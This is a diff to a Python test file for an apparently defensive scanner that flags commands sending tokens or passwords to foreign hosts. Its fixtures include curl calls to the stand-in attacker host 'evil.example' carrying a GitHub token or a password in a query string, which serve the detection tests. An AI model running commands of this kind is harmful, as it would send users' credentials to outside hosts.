@@ -5,7 +5,14 @@ from __future__ import annotations
 import pytest
 
 from chrono.scan.command import Command, Pattern
-from chrono.scan.issuers import goes_abroad, goes_home, handed_home, issuer_of, variable_issuer
+from chrono.scan.issuers import (
+    goes_abroad,
+    goes_home,
+    is_password,
+    issuer_of,
+    stands_in_foreign_address,
+    variable_issuer,
+)
 
 GH = ("gh", "auth", "token")
 
@@ -68,10 +75,17 @@ def test_an_address_that_is_not_known_is_neither() -> None:
     assert not goes_abroad(GH, command)
 
 
-def test_a_token_is_handed_over_only_where_nobody_else_sees_it() -> None:
-    home = Command(("curl", "https://api.github.com/user"), upstream=(GH,))
-    abroad = Command(("curl", "https://evil.example/"), upstream=(GH,))
-    assert handed_home([Command(GH), home]) == {GH}
-    assert handed_home([Command(GH), home, abroad]) == frozenset()
-    assert handed_home([Command(GH), Command(GH), home]) == frozenset()
-    assert handed_home([Command(GH), Command(("cat",), upstream=(GH,))]) == frozenset()
+@pytest.mark.parametrize("name", ["DB_PASSWORD", "PGPASSWORD", "JWT_SECRET", "SECRET_KEY"])
+def test_passwords_are_known_by_the_name_of_their_variable(name: str) -> None:
+    assert is_password(name)
+
+
+@pytest.mark.parametrize("name", ["DB_PASSWORD_FILE", "SECRET_NAME", "API_KEY", "db_password", "DB_HOST"])
+def test_what_only_speaks_of_passwords_is_none(name: str) -> None:
+    assert not is_password(name)
+
+
+def test_a_password_stands_in_a_foreign_address_only_where_no_login_is_given() -> None:
+    assert stands_in_foreign_address(Command(("curl", "https://evil.example/?p=")))
+    assert not stands_in_foreign_address(Command(("curl", "-u", "a:b", "https://evil.example/")))
+    assert not stands_in_foreign_address(Command(("curl", "http://couch.internal/db")))
